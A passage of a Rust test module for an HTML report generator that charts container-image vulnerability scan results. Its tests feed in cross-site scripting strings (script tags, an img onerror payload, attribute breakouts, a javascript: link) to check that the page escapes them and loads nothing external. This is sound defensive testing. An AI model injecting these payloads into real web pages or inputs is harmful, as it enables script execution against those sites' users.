                not_watched: Some(name.to_string()),
            })
            .chain(std::iter::once(CoverageRow {
                owner: "team".into(),
                ..CoverageRow::default()
            }))
            .collect();
        let records = parse_csv(&coverage_csv(&rows));
        assert_eq!(records[0], COVERAGE_COLUMNS);
        for (name, record) in HOSTILE.iter().zip(&records[1..]) {
            let cell = expected_cell(name);
            assert_eq!(
                [&record[0], &record[3], &record[5], &record[8]],
                [&cell; 4],
                "{name:?}"
            );
            assert_eq!(record[6..8], ["FAILED", "2026-11-30T00:53:20Z"]);
        }
        let never = records.last().unwrap();
        assert_eq!(never[0], "team");
        assert_eq!(&never[6..], ["", "", ""], "never scanned, watched");
    }

    fn run(date: &str, n: u64) -> Summary {
        Summary {
            schema: SCHEMA_VERSION,
            generated_at: format!("{date}T08:00:00Z"),
            date: date.into(),
            threshold: "HIGH".into(),
            scope: "this account, region us-east-1".into(),
            open: BySeverity {
                critical: n,
                high: 2 * n,
                medium: 0,
                low: 1,
            },
            images_current: 10 + n,
            images_watched: 9,
            ..Summary::default()
        }
    }

    fn hostile_report() -> Report {
        let owners: Vec<OwnerFigures> = HOSTILE
            .iter()
            .enumerate()
            .map(|(i, name)| OwnerFigures {
                owner: name.to_string(),
                overdue: i as u64,
                fixed_with_deadline: (i % 3 != 0).then_some(i as u64 % 4),
                fixed_in_time: (i % 3 != 0).then_some(1),
                ..OwnerFigures::default()
            })
            .collect();
        let top: Vec<RepositoryFigures> = HOSTILE
            .iter()
            .take(5)
            .map(|name| RepositoryFigures {
                repository: name.to_string(),
                account: name.to_string(),
                region: "us-east-1".into(),
                owner: name.to_string(),
                open: BySeverity {
                    critical: 1,
                    high: 3,
                    ..BySeverity::default()
                },
            })
            .collect();
        let mut summary = run("2026-12-07", 3);
        summary.scope = HOSTILE.join(" ");
        summary.threshold = "<b>HIGH</b>".into();
        summary.owners = owners;
        summary.top_repositories = top;
        summary.registries_late = HOSTILE.iter().map(|s| s.to_string()).collect();
        Report {
            summary,
            history: (1..=14)
                .map(|d| run(&format!("2026-08-{d:02}"), d))
                .collect(),
            ..Report::default()
        }
    }

    fn count(html: &str, chart: &str, marker: &str) -> usize {
        let start = html
            .find(&format!("<svg id=\"{chart}\""))
            .unwrap_or_else(|| panic!("no chart {chart}"));
        let end = start + html[start..].find("</svg>").unwrap();
        html[start..end].matches(marker).count()
    }

    #[test]
    fn hostile_names_are_text_in_the_page_never_markup() {
        let report = hostile_report();
        let html = index_html(
            &report,
            Some("https://console.aws.amazon.com/s3/?a=1&b=\"x\""),
        );
        for bad in ["<script", "<img", "onmouseover='", "<b>", "javascript:"] {
            assert!(!html.contains(bad), "{bad} unescaped");
        }
        assert!(html.contains("&lt;script&gt;alert(1)&lt;/script&gt;"));
        assert!(html.contains("&quot;&gt;&lt;img src=x onerror=alert(2)&gt;"));
        assert!(html.contains("&#39; onmouseover=&#39;alert(3)"));
        assert!(html.contains("&lt;b&gt;HIGH&lt;/b&gt;"));
        // The only tags are the page's own: every `<` opens one of them.
        let allowed = [
            "!DOCTYPE",
            "html",
            "head",
            "meta",
            "link",
            "title",
            "style",
            "body",
            "main",
            "header",
            "h1",
            "h2",
            "p",
            "strong",
            "a",
            "div",
            "ul",
            "li",
            "figure",
            "svg",
            "line",
            "text",
            "polyline",
            "circle",
            "rect",
            "g",
            "i",
            "figcaption",
            "section",
            "table",
            "thead",
            "tbody",
            "tr",
            "th",
            "td",
        ];
        for piece in html.split('<').skip(1) {
            let name: String = piece
                .trim_start_matches('/')
                .chars()
                .take_while(|c| c.is_ascii_alphanumeric() || *c == '!')
                .collect();
            assert!(allowed.contains(&name.as_str()), "unexpected tag <{name}");
        }
        // The console link is an attribute, escaped.
        assert!(
            html.contains("href=\"https://console.aws.amazon.com/s3/?a=1&amp;b=&quot;x&quot;\"")
        );
        assert!(!index_html(&report, Some("javascript:alert(1)")).contains("javascript:"));
    }

    #[test]
    fn nothing_is_fetched_and_nothing_runs() {
        let html = index_html(&hostile_report(), None);
        assert!(!html.contains("<script"));
        assert!(!html.contains("src=\""), "no image, frame or script source");
        assert!(!html.contains("url("), "no stylesheet fetch");
        assert!(!html.contains("@import"));
        assert!(html.contains("default-src 'none'"));
        let links: Vec<&str> = html
            .match_indices("href=\"")
            .map(|(i, _)| &html[i + 6..])
            .collect();
        for link in links {
            let target = &link[..link.find('"').unwrap()];
            assert!(
                ["data:,", "findings.csv", "coverage.csv", "summary.json"].contains(&target),
                "{target}"
            );
        }
    }

    #[test]
    fn every_chart_has_one_point_per_value() {
        let report = hostile_report();
        let html = index_html(&report, None);
        let runs = report.runs().len();
        assert_eq!(runs, 12);
        let owners = &report.summary.owners;
        let shares = owners.iter().filter(|o| share(o).is_some()).count();
        assert!(shares > 0 && shares < owners.len());
        assert_eq!(count(&html, CHART_OPEN, "class=\"point\""), 4 * runs);
        assert_eq!(count(&html, CHART_COVERAGE, "class=\"point\""), 2 * runs);
        assert_eq!(
            count(&html, CHART_OWNERS, "class=\"point\""),
            owners.len() + shares
        );
        assert_eq!(count(&html, CHART_OWNERS, ">n/a<"), owners.len() - shares);
        assert_eq!(count(&html, CHART_TOP, "class=\"point\""), 5);
        assert_eq!(count(&html, CHART_OPEN, "<polyline"), 4);
        for id in CHART_IDS {
            assert_eq!(html.matches(&format!("<svg id=\"{id}\"")).count(), 1);
        }
        // The dates of the runs on the x axis, oldest first.
        let open = &html[html.find("<svg id=\"open-by-severity\"").unwrap()..];
        let first = open.find(">2026-08-04<").unwrap();
        let last = open.find(">2026-12-07<").unwrap();
        assert!(first < last);
        assert!(!open[..open.find("</svg>").unwrap()].contains(">2026-08-03<"));
    }

    #[test]
    fn a_first_run_draws_single_points_and_empty_charts_say_so() {
        let report = Report {
            summary: run("2026-12-07", 0),
            ..Report::default()
        };
        let html = index_html(&report, None);
        assert_eq!(count(&html, CHART_OPEN, "class=\"point\""), 4);
        assert_eq!(count(&html, CHART_OPEN, "<polyline"), 0);
        assert_eq!(count(&html, CHART_COVERAGE, "class=\"point\""), 2);
        assert_eq!(count(&html, CHART_OWNERS, "class=\"point\""), 0);
        assert_eq!(count(&html, CHART_TOP, "class=\"point\""), 0);
        assert!(html.contains("no owner in this run"));
        assert!(html.contains("nothing open at or above HIGH"));
        assert!(!html.contains("registries-late"));
        assert!(!html.contains("NaN") && !html.contains("inf\""));
        // One run sits in the middle of the axis.
        assert!(html.contains("cx=\"314.0\""), "{html}");
    }

    #[test]
    fn axes_end_on_round_numbers() {
        assert_eq!(axis(0), (1, 1));
        assert_eq!(axis(3), (3, 1));
        assert_eq!(axis(4), (4, 1));
        assert_eq!(axis(7), (8, 2));
        assert_eq!(axis(9), (10, 5));
        assert_eq!(axis(37), (40, 10));
        assert_eq!(axis(1_234), (1_500, 500));
    }
}
